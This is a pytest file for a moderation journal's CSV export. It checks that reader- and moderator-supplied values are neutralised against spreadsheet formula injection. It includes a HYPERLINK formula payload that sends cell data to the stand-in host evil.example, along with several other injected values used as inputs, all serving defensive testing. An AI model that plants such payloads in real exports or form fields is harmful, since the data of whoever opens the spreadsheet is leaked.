"""The journal's CSV export: what readers typed never becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from tests.conftest import Reader, comments_in_db, login, make_user
from tests.moderation.conftest import decide, token

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Voir")'


def test_cells_that_a_spreadsheet_would_run_are_neutralised(app, mod_client):
    make_user(email="piege@example.fr", display_name=HYPERLINK)
    author = Reader(app.test_client())
    login(author.client, "piege@example.fr")
    author.post(body="Un avis tout à fait correct", name=None, email=None)
    [comment] = comments_in_db()
    decide(mod_client, comment, "reject", reason="spam", note="@SUM(1+1)")
    mod_client.post(
        "/moderation/lecteurs/sanctions",
        data={"csrf_token": token(mod_client), "email": "=2+5@example.fr", "kind": "ban",
              "reason": "-1+\tlien"},
    )  # fmt: skip

    response = mod_client.get("/moderation/journal?format=csv")

    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    submitted = next(r for r in rows if r["action"] == "submitted")
    rejected = next(r for r in rows if r["action"] == "rejected")
    banned = next(r for r in rows if r["action"] == "reader_ban")
    assert submitted["actor"] == "'" + HYPERLINK
    assert rejected["note"] == "'@SUM(1+1)"
    assert banned["reader_email"] == "'=2+5@example.fr"
    assert banned["note"] == "'-1+\tlien"
    first_cells = [value for row in rows for value in row.values() if value]
    assert not [v for v in first_cells if v[0] in "=+-@\t\r"]
